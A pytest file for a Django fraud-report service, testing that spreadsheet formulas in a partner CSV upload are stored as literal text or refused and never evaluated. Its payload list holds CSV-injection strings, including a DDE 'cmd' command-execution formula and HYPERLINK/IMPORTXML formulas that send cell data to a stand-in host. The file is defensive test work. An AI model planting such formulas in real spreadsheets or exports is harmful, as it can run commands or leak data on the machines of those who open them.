"""Spreadsheet formulas in the partner CSV import stay inert (security.md E3, 4.8).

kuzet has no CSV or spreadsheet export today, so nothing is neutralised on the way out; on the
way in, a formula is either kept as the literal text the partner sent (free-text columns: it is
evidence, altering it would falsify the report) or refused with its field named (columns with a
format: amounts, accounts, currencies, regions, phones). Nothing is ever evaluated.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from kuzet.reports.models import Report, ReportSource

KASPI_IBAN = "KZ72722S000000000001"
WRITE = ("reports:write",)
COLUMNS = [
    "external_reference",
    "narrative",
    "region",
    "reporter_name",
    "reporter_phone",
    "amount",
    "currency",
    "to_account",
    "transferred_at",
]
# The payloads of security.md 4.8, and the prefixes spreadsheets treat as formulas.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    '=HYPERLINK("http://x/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("http://x","//a")',
]


def a_row(reference: str, **overrides: str) -> dict[str, str]:
    row = {
        "external_reference": reference,
        "narrative": "Клиент перевёл деньги «службе безопасности».",
        "region": "KZ-75",
        "reporter_name": "",
        "reporter_phone": "",
        "amount": "50000",
        "currency": "KZT",
        "to_account": KASPI_IBAN,
        "transferred_at": "2026-01-05T10:00:00+05:00",
    }
    row.update(overrides)
    return row


def post_csv(client, token: str, rows: list[dict[str, str]]):
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    upload = SimpleUploadedFile("r.csv", buffer.getvalue().encode(), content_type="text/csv")
    return client.post(
        "/api/v1/reports/bulk.csv", {"file": upload}, HTTP_AUTHORIZATION=f"Bearer {token}"
    )


@pytest.mark.django_db
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_free_text_column_is_kept_as_the_literal_text(client, api_token, formula):
    rows = [
        a_row("F-narrative", narrative=formula),
        a_row("F-name", reporter_name=formula, amount="50001"),
        a_row("F-reference-" + formula, amount="50002"),
    ]

    response = post_csv(client, api_token("HALYK", scopes=WRITE), rows)

    assert response.status_code == 200
    assert [row["outcome"] for row in response.json()["results"]] == ["created"] * 3
    assert ReportSource.objects.get(external_reference="F-narrative").narrative == formula
    assert Report.objects.get(sources__external_reference="F-name").contact.name == formula
    assert ReportSource.objects.filter(external_reference="F-reference-" + formula).exists()


@pytest.mark.django_db
@pytest.mark.parametrize("prefix", ["\t", "\r", " \t"])
def test_a_formula_behind_tab_or_carriage_return_is_kept_as_text_without_them(
    client, api_token, prefix
):
    response = post_csv(
        client, api_token("HALYK", scopes=WRITE), [a_row("F-1", narrative=prefix + "=1+1")]
    )

    assert response.json()["results"][0]["outcome"] == "created"
    assert ReportSource.objects.get(external_reference="F-1").narrative == "=1+1"


@pytest.mark.django_db
@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("column", ["amount", "to_account", "currency", "region", "reporter_phone"])
def test_a_formula_in_a_formatted_column_is_refused_with_its_field_named(
    client, api_token, formula, column
):
    row = a_row("F-1", **{column: formula})

    response = post_csv(client, api_token("HALYK", scopes=WRITE), [row])

    assert response.status_code == 200
    [result] = response.json()["results"]
    assert result["outcome"] == "invalid"
    assert [key for key in result["errors"] if column in key], result["errors"]
    assert Report.objects.count() == 0
